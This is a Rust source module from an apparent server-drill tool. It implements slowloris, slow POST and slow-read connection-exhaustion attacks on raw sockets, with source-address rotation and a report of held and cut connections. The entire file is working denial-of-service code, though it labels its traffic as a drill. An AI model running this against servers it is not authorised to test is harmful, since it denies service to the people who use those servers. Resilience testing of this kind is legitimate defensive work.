//! `slow`: attacks that hold a server's connections open with as few bytes as possible —
//! slowloris (a request head never finished), slow POST (a body one byte at a time), slow read
//! (the response taken one byte at a time).
//!
//! These are written as raw bytes on a socket on purpose: the attack *is* the timing and
//! framing on the wire, which an HTTP client library exists to hide. Each connection trickles
//! until the target cuts it or the drill ends, then (if there is time left) a new one starts, as
//! the real tools do; the report says how many were held to the end and how soon the others
//! were cut.

use std::net::IpAddr;
use std::sync::atomic::{AtomicU64, Ordering};
use std::sync::{Arc, Mutex};
use std::time::{Duration, Instant};

use hdrhistogram::Histogram;
use serde::Serialize;
use tokio::io::{AsyncReadExt, AsyncWriteExt};

use super::args::SlowKind;
use super::client::tcp;
use super::sources::Sources;
use super::tally::Latency;

/// What `slow` does.
#[derive(Debug, Clone)]
pub struct Slow {
    pub to: std::net::SocketAddr,
    pub authority: String,
    pub path: String,
    pub kind: SlowKind,
    pub connections: usize,
    pub sources: Sources,
    pub interval: Duration,
    pub duration: Duration,
    pub timeout: Duration,
}

/// What the slow connections came to.
#[derive(Debug, Clone, Serialize)]
pub struct SlowSummary {
    /// Connections opened (every kind).
    pub opened: u64,
    /// Still open when the drill ended: the attack held them all along.
    pub held: u64,
    /// Closed or answered by the target before the end.
    pub cut: u64,
    /// Could not connect.
    pub refused: u64,
    /// How long the cut ones lasted.
    pub cut_after_ms: Option<Latency>,
}

#[derive(Default)]
struct Counters {
    opened: AtomicU64,
    held: AtomicU64,
    cut: AtomicU64,
    refused: AtomicU64,
}

enum End {
    Held,
    Cut,
}

/// Run `slow` to its deadline.
pub async fn run(slow: Slow) -> SlowSummary {
    let slow = Arc::new(slow);
    let deadline = Instant::now() + slow.duration;
    let counters = Arc::new(Counters::default());
    let lasted = Arc::new(Mutex::new(Histogram::<u64>::new_with_bounds(1, 3_600_000, 3).expect("histogram bounds")));
    let tasks: Vec<_> = (0..slow.connections)
        .map(|i| {
            let kind = match slow.kind {
                SlowKind::All => [SlowKind::Headers, SlowKind::Body, SlowKind::Read][i % 3],
                k => k,
            };
            let (slow, counters, lasted) = (Arc::clone(&slow), Arc::clone(&counters), Arc::clone(&lasted));
            tokio::spawn(async move {
                let mut n = i as u64;
                while Instant::now() < deadline {
                    let source = slow.sources.bind(n);
                    n += slow.connections as u64;
                    let started = Instant::now();
                    match one(&slow, kind, source, deadline).await {
                        Err(()) => {
                            counters.refused.fetch_add(1, Ordering::Relaxed);
                            tokio::time::sleep(Duration::from_millis(100)).await;
                        }
                        Ok(End::Held) => {
                            counters.opened.fetch_add(1, Ordering::Relaxed);
                            counters.held.fetch_add(1, Ordering::Relaxed);
                        }
                        Ok(End::Cut) => {
                            counters.opened.fetch_add(1, Ordering::Relaxed);
                            counters.cut.fetch_add(1, Ordering::Relaxed);
                            let ms = (started.elapsed().as_millis() as u64).clamp(1, 3_600_000);
                            let _ = lasted.lock().unwrap_or_else(|p| p.into_inner()).record(ms);
                            tokio::time::sleep(Duration::from_millis(100)).await;
                        }
                    }
                }
            })
        })
        .collect();
    for t in tasks {
        let _ = t.await;
    }
    let h = lasted.lock().unwrap_or_else(|p| p.into_inner());
    let ms = |q: f64| h.value_at_quantile(q) as f64;
    SlowSummary {
        opened: counters.opened.load(Ordering::Relaxed),
        held: counters.held.load(Ordering::Relaxed),
        cut: counters.cut.load(Ordering::Relaxed),
        refused: counters.refused.load(Ordering::Relaxed),
        cut_after_ms: (!h.is_empty()).then(|| Latency { p50: ms(0.5), p95: ms(0.95), p99: ms(0.99), max: h.max() as f64 }),
    }
}

/// One slow connection, until the target cuts it or `deadline`.
async fn one(slow: &Slow, kind: SlowKind, source: Option<IpAddr>, deadline: Instant) -> Result<End, ()> {
    let mut stream = tcp(slow.to, source, slow.timeout).await.map_err(|_| ())?;
    let host = &slow.authority;
    let path = &slow.path;
    let head = match kind {
        SlowKind::Headers | SlowKind::All => format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {}\r\n", super::load::DRILL_AGENT),
        SlowKind::Body => format!(
            "POST {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000000\r\n\r\n",
            super::load::DRILL_AGENT
        ),
        SlowKind::Read => format!("GET {path} HTTP/1.1\r\nHost: {host}\r\nUser-Agent: {}\r\nConnection: close\r\n\r\n", super::load::DRILL_AGENT),
    };
    if stream.write_all(head.as_bytes()).await.is_err() {
        return Ok(End::Cut);
    }
    let mut ticks = tokio::time::interval(slow.interval);
    ticks.tick().await;
    let mut buf = [0u8; 16];
    let mut n = 0u64;
    loop {
        let now = Instant::now();
        if now >= deadline {
            return Ok(End::Held);
        }
        if kind == SlowKind::Read {
            // Take the response 16 bytes per interval; the whole of it read is the target
            // having served the request (not held).
            tokio::select! {
                _ = tokio::time::sleep_until(deadline.into()) => return Ok(End::Held),
                _ = ticks.tick() => {}
            }
            match tokio::time::timeout(slow.interval, stream.read(&mut buf)).await {
                Ok(Ok(0)) | Ok(Err(_)) => return Ok(End::Cut),
                Ok(Ok(_)) | Err(_) => continue,
            }
        }
        // Trickle one piece; anything the target says (a 408, a 400) or its closing is a cut.
        tokio::select! {
            _ = tokio::time::sleep_until(deadline.into()) => return Ok(End::Held),
            r = stream.read(&mut buf) => {
                let _ = r;
                return Ok(End::Cut);
            }
            _ = ticks.tick() => {
                n += 1;
                let piece = match kind {
                    SlowKind::Body => b"a".to_vec(),
                    _ => format!("X-Drill-{n}: {n}\r\n").into_bytes(),
                };
                if stream.write_all(&piece).await.is_err() {
                    return Ok(End::Cut);
                }
            }
        }
    }
}
